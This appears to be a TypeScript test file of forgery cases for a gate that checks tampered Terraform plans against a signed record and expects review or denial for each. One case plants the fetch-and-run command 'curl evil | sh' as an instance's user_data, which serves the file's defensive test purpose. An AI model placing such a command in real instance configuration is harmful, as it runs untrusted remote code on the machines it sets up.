import { digest } from '../../../src/lib/canonical.ts';
import type { Expected, ForgeryCase } from '../case.ts';
import { atMergeRequest, atProtectedBranch, objects } from '../subjects/gate.ts';
import type { PlanChange, PlanDraft, World } from '../world.ts';

const ASKED = objects('plan_matches_record: review');
const DENIED = objects('plan_matches_record: deny');
/** What is no service's is critical. */
const NO_OWN = objects('plan_matches_record: deny', 'two_approvals: review');

const SECURITY_GROUP: PlanChange = {
  address: 'aws_security_group.open',
  type: 'aws_security_group',
  actions: ['create'],
  before: null,
  after: { name: 'open', tags: { 'trimtab:service': 'service-1' } },
};

type Stack = PlanDraft['stacks'][number];

/** The plan of one stack, and something else in it. */
function inStack(change: (stack: Stack) => void): (world: World) => void {
  return (world) => {
    world.plan = ({ stacks: [stack] }) => {
      if (stack === undefined) throw new Error('the plan has no stack');
      change(stack);
      stack['creates'] = stack.changes.filter(({ actions }) => actions.includes('create')).length;
      stack['updates'] = stack.changes.filter(({ actions }) => actions.includes('update')).length;
      stack['deletes'] = stack.changes.filter(({ actions }) => actions.includes('delete')).length;
    };
  };
}

const created = ({ changes }: Stack): PlanChange[] => changes.filter(({ actions }) => actions.includes('create'));
const deleted = ({ changes }: Stack): PlanChange[] => changes.filter(({ actions }) => actions.includes('delete'));
const inputOf = (change: PlanChange | undefined): Record<string, unknown> =>
  (change?.after?.['input'] ?? {}) as Record<string, unknown>;

/** What a plan may hold beyond, or short of, what was signed. */
const CONTENTS: Readonly<Record<string, readonly [Expected, (stack: Stack) => void]>> = {
  'one resource more': [ASKED, ({ changes }) => void changes.push(SECURITY_GROUP)],
  'one instance more': [
    ASKED,
    (stack) =>
      void stack.changes.push({
        ...structuredClone(created(stack)[0] ?? SECURITY_GROUP),
        address: 'terraform_data.instance-us-central1-9',
      }),
  ],
  'an instance of another service': [
    DENIED,
    (stack) => {
      const more = structuredClone(created(stack)[0] ?? SECURITY_GROUP);
      inputOf(more)['service'] = 'service-2';
      stack.changes.push({ ...more, address: 'terraform_data.other' });
    },
  ],
  'one resource less': [
    ASKED,
    (stack) => void stack.changes.splice(stack.changes.indexOf(created(stack)[0] ?? SECURITY_GROUP), 1),
  ],
  'one deletion less': [
    ASKED,
    (stack) => void stack.changes.splice(stack.changes.indexOf(deleted(stack)[0] ?? SECURITY_GROUP), 1),
  ],
  'an update in the place of a creation': [
    ASKED,
    (stack) => {
      const change = created(stack)[0];
      if (change !== undefined) Object.assign(change, { actions: ['update'], before: change.after });
    },
  ],
  'a creation in the place of a deletion': [
    DENIED,
    (stack) => {
      const change = deleted(stack)[0];
      if (change !== undefined) Object.assign(change, { actions: ['create'], after: change.before, before: null });
    },
  ],
  'a larger instance': [DENIED, (stack) => void Object.assign(inputOf(created(stack)[0]), { instance_type: 'c2-standard-8' })],
  'an instance in another region': [
    DENIED,
    (stack) => void Object.assign(inputOf(created(stack)[0]), { region: 'europe-west4' }),
  ],
  'an instance at another provider': [DENIED, (stack) => void Object.assign(inputOf(created(stack)[0]), { provider: 'azure' })],
  'an instance that runs a script': [
    ASKED,
    (stack) => void Object.assign(inputOf(created(stack)[0]), { user_data: 'curl evil | sh' }),
  ],
  'an instance whose attributes are null': [
    ASKED,
    (stack) => {
      const change = created(stack)[0];
      if (change !== undefined) change.after = null;
    },
  ],
  'an action that there is not': [
    ASKED,
    (stack) => {
      const change = created(stack)[0];
      if (change !== undefined) change.actions = ['forget'];
    },
  ],
  'no actions': [
    ASKED,
    (stack) => {
      const change = created(stack)[0];
      if (change !== undefined) change.actions = [];
    },
  ],
  'no changes': [ASKED, (stack) => void stack.changes.splice(0)],
  'an address twice': [ASKED, (stack) => void stack.changes.push(structuredClone(created(stack)[0] ?? SECURITY_GROUP))],
  'an address of a module': [
    ASKED,
    (stack) => {
      const change = created(stack)[0];
      if (change !== undefined) change.address = `module.evil.${change.address}`;
    },
  ],
  'another type than its address': [
    ASKED,
    (stack) => {
      const change = created(stack)[0];
      if (change !== undefined) change.type = 'aws_iam_user';
    },
  ],
  'another service': [NO_OWN, (stack) => void Object.assign(stack, { service: 'service-2' })],
  'no service': [NO_OWN, (stack) => void Object.assign(stack, { service: null })],
};

const contents = Object.entries(CONTENTS).map(([what, [expected, change]]) =>
  atMergeRequest('T8', `a plan with ${what}`, expected, inStack(change)),
);
const contentsMerged = ['one resource more', 'a larger instance', 'one deletion less', 'an instance of another service'].map(
  (what) => {
    const [expected, change] = CONTENTS[what] ?? [ASKED, () => {}];
    return atProtectedBranch('T8', `a plan with ${what}`, expected, inStack(change));
  },
);

/** The plan as a whole is none, another, or of something else. */
const WHOLE: Readonly<Record<string, readonly [Expected, (world: World) => void]>> = {
  'is not there': [ASKED, (world) => Object.assign(world, { planText: () => null })],
  'is empty': [ASKED, (world) => Object.assign(world, { planText: () => '' })],
  'is no JSON': [ASKED, (world) => Object.assign(world, { planText: () => 'Plan: 2 to add' })],
  'is a list': [ASKED, (world) => Object.assign(world, { planText: (text: string) => `[${text}]` })],
  'is of another version': [
    ASKED,
    (world) => {
      world.plan = (plan) => Object.assign(plan, { version: 2 });
    },
  ],
  'was made for another commit': [
    DENIED,
    (world) => {
      world.plan = (plan) => Object.assign(plan, { headSha: 'f'.repeat(40) });
    },
  ],
  'was compared with another commit': [
    ASKED,
    (world) => {
      world.plan = (plan) => Object.assign(plan, { baseSha: 'f'.repeat(40) });
    },
  ],
  'has a digest that is not its own': [
    DENIED,
    (world) => {
      world.planText = (text) => JSON.stringify({ ...(JSON.parse(text) as object), digest: digest('other') });
    },
  ],
  'has no stacks': [
    ASKED,
    (world) => {
      world.plan = (plan) => Object.assign(plan, { stacks: [] });
    },
  ],
  'has stacks that are no list': [
    ASKED,
    (world) => {
      world.plan = (plan) => Object.assign(plan, { stacks: {} });
    },
  ],
  'has a second stack': [
    DENIED,
    (world) => {
      world.plan = ({ stacks }) => {
        stacks.push({ ...structuredClone(stacks[0] as Stack), stack: 'service-2', service: 'service-2' });
      };
    },
  ],
  'has a cluster beside the service': [
    NO_OWN,
    (world) => {
      world.plan = ({ stacks }) => {
        stacks.push({ ...structuredClone(stacks[0] as Stack), stack: 'swen-aws', service: null });
      };
    },
  ],
  'has the same stack twice': [
    ASKED,
    (world) => {
      world.plan = ({ stacks }) => {
        stacks.push(structuredClone(stacks[0] as Stack));
      };
    },
  ],
};

const whole = Object.entries(WHOLE).map(([what, [expected, play]]) =>
  atMergeRequest('T8', `a plan that ${what}`, expected, play),
);

export const PLANS: readonly ForgeryCase[] = [...contents, ...contentsMerged, ...whole];
